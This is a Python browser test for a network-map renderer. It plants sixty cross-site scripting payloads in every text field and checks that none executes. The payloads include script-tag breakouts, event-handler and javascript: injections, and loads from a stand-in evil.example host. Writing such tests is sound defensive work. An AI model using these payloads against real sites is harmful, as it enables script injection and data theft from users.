"""Markup in any text of a user stays text: sixty attacks in every field, opened in a real browser, none runs."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from playwright.sync_api import Browser

from graphcdc import draw_map, find_gaps, recommend_partners
from graphcdc.cli.maps import suggest_to_all
from graphcdc.introductions import find_introductions
from graphcdc.network import Network
from tests.pages import Seen, opened

RUN = "window.owned=1"
TAGS = (
    "<script>@</script>",
    "</script><script>@</script>",
    "</title><script>@</script>",
    "</textarea><script>@</script>",
    "</style><script>@</script>",
    "--><script>@</script>",
    "]]><script>@</script>",
    "<scr<script>ipt>@</scr</script>ipt>",
    "<SCRIPT>@</SCRIPT>",
    "<script >@</script >",
    "<script/x>@</script>",
    "<svg><script>@</script></svg>",
    "<math><script>@</script></math>",
    "<script src='data:text/javascript,@'></script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>@</script>",
)
EVENTS = (
    "<img src=x onerror=@>",
    '<img src="x" onerror="@">',
    "<IMG SRC=x ONERROR=@>",
    "<img/src=x/onerror=@>",
    "<svg onload=@>",
    "<svg/onload=@>",
    "<body onload=@>",
    "<details open ontoggle=@>",
    "<input autofocus onfocus=@>",
    "<select autofocus onfocus=@>",
    "<video src=x onerror=@></video>",
    "<audio src=x onerror=@></audio>",
    "<video><source onerror=@></video>",
    "<marquee onstart=@>",
    "<div onmouseover=@ style='position:fixed;inset:0'>x</div>",
    "<a href=# onclick=@ style='position:fixed;inset:0'>x</a>",
    "<button onfocus=@ autofocus>x</button>",
    "<iframe onload=@></iframe>",
    "<object data=x onerror=@></object>",
    "<style onload=@></style>",
    "<link rel=stylesheet href=x onerror=@>",
    '" onmouseover="@" x="',
    "' onmouseover='@' x='",
    '"><img src=x onerror=@>',
    "'><img src=x onerror=@>",
    "`><img src=x onerror=@>",
)
OTHERS = (
    "<a href='javascript:@'>x</a>",
    "<iframe src='javascript:@'></iframe>",
    "<iframe srcdoc='<script>parent.@</script>'></iframe>",
    "<object data='javascript:@'></object>",
    "<embed src='javascript:@'>",
    "<form action='javascript:@'><input type=submit></form>",
    "<meta http-equiv=refresh content='0;url=javascript:@'>",
    "<base href='http://evil.example/'>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<img src='http://evil.example/x.png'>",
    "<style>(at)import 'http://evil.example/x.css';</style>",
    "<style>*{background:url(http://evil.example/x.png)}</style>",
    "javascript:@",
    "data:text/html,<script>@</script>",
    "{{constructor.constructor('@')()}}",
    "${@}",
    "\\u003cscript\\u003e@\\u003c/script\\u003e",
    "&lt;script&gt;@&lt;/script&gt;&#60;img src=x onerror=@&#62;",
)
ATTACKS = [pattern.replace("@", RUN).replace("(at)", "@") for pattern in (*TAGS, *EVENTS, *OTHERS)]


def infested() -> Network:
    """Build sixty organizations and sixty projects in four clusters, with an attack in every text of each."""
    count = len(ATTACKS)
    ids = [f"o{one}" for one in ATTACKS] + [f"p{one}" for one in ATTACKS] + [f"c{one}" for one in ATTACKS[:4]]
    kinds = ["sme", "university", "public_authority", "investor", "ngo", "company"]
    ties = []
    for at in range(count):
        ties += [(ids[other % count], ids[count + at], "PARTICIPATES_IN") for other in (at, at + 1, at + 7)]
        ties += [(ids[at], ids[2 * count + at % 4], "MEMBER_OF"), (ids[at], ids[(at + 2) % count], "SUPPLIES")]
    texts = ("name", "name_en", "name_ru", "city", "country", "domains", "note", "stage", "topics", "data_source")
    return Network.build(
        {
            **{column: [f"{ATTACKS[at % count]} {column}" for at in range(len(ids))] for column in texts},
            "id": ids,
            "kind": [kinds[at % 6] for at in range(count)] + ["project"] * count + ["cluster"] * 4,
            "region": [ATTACKS[at % 3] for at in range(count)] + [""] * (count + 4),
            "start": [""] * count + ["2020"] * count + [""] * 4,
        },
        {
            **dict(zip(("source", "target", "kind"), zip(*ties, strict=True), strict=True)),
            "note": [ATTACKS[at % count] for at in range(len(ties))],
            "data_source": [ATTACKS[at % count] for at in range(len(ties))],
        },
    )


def touch_everything(seen: Seen) -> None:
    """Open every profile, gap, cluster and tab, type, hover over what is drawn, and turn the language."""
    seen.ask("D.rows.forEach((_, at) => open({ row: at }, at % 9 === 0))")
    seen.ask("D.gaps.forEach((_, at) => open({ gap: at }, true))")
    seen.ask("whole.hulls.forEach((_, at) => open({ hull: at }, true))")
    seen.ask("for (const one of document.querySelectorAll('details')) one.open = true")
    seen.ask("open({ way: [0, 20] }, true)")
    for tab in ("table", "matrix", "map"):
        seen.page.click(f"[data-tab-of={tab}]")
    for text in ("<", "script", "onerror"):
        seen.page.fill("#search", text)
        seen.page.wait_for_timeout(50)
    if seen.ask("S.dots.length"):
        for row in range(0, 60, 12):
            seen.page.mouse.move(*seen.place_of(row))
    seen.page.click("#language")


def check(seen: Seen) -> None:
    """Nothing ran, nothing was made of the markup, and the names are there as text."""
    touch_everything(seen)
    touch_everything(seen)
    assert seen.ask("window.owned") is None
    assert seen.ask("document.querySelectorAll('img,iframe,object,embed,base,form,video,audio,math,link').length") == 0
    assert seen.ask("document.scripts.length") == 4
    assert ATTACKS[0] in seen.open_by_search(ATTACKS[0])


def test_sixty_attacks_in_every_field_stay_text(browser: Browser, tmp_path: Path) -> None:
    assert len(set(ATTACKS)) == 60
    network = infested()
    gaps = find_gaps(network, draws=200)
    asker = str(network.node["id"][network.organizations[0]])
    found: dict[str, Any] = {"gaps": gaps, "partners": suggest_to_all(network), "suggested_to": [asker]}
    found["suggestions"] = recommend_partners(network, asker, gaps=gaps)
    for view in ("organizations", "clusters"):
        with opened(browser, draw_map(network, tmp_path / f"{view}.html", view=view, **found)) as seen:
            check(seen)
            if view == "clusters":
                seen.ask("setStage(0)")
                check(seen)


def test_attacks_stay_text_in_the_pictures_of_one_thing(browser: Browser, tmp_path: Path) -> None:
    network = infested()
    ids = network.node["id"].tolist()
    organizations = [str(ids[node]) for node in network.organizations.tolist()]
    project = str(ids[network.of_kinds(["project"])[0]])
    pictures: dict[str, dict[str, Any]] = {
        "ego": {"about": [organizations[3]]},
        "project": {"about": [project], "suggestions": recommend_partners(network, project)},
        "path": {"introductions": find_introductions(network, organizations[0], organizations[30])},
    }
    for view, options in pictures.items():
        file = draw_map(network, tmp_path / f"{view}.html", view=view, title=ATTACKS[1], **options)
        with opened(browser, file) as seen:
            seen.page.click("#language")
            assert seen.page.title().startswith(ATTACKS[1])
            assert seen.ask("window.owned") is None
